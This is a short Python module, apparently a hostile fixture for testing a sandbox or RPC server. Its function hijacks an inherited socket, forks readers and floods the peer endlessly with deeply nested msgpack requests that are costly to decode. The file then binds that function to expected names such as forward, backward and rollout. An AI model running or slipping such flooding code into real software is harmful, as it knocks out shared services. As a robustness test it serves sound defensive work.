"""Asks without a pause for what is dear to decode, while its forks read away the answers, so that nobody ever waits."""

import os
import stat

import msgspec
from inside.wire import HEADER

BODY = msgspec.msgpack.encode([0, "get", [0, *([[0]] * 3000)], "x"])
BATCH = (HEADER.pack(len(BODY), 0) + BODY) * 40


def wrong(*args, **kwargs):
    line = max(number for number in range(3, 64) if os.path.exists(f"/proc/self/fd/{number}") and is_socket(number))
    for _ in range(2):
        if os.fork() == 0:
            while True:
                os.read(line, 1 << 20)
    while True:
        rest = memoryview(BATCH)
        while rest:
            rest = rest[os.write(line, rest) :]


def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


action_value = gains = state_value = backward = forward = rollout = wrong
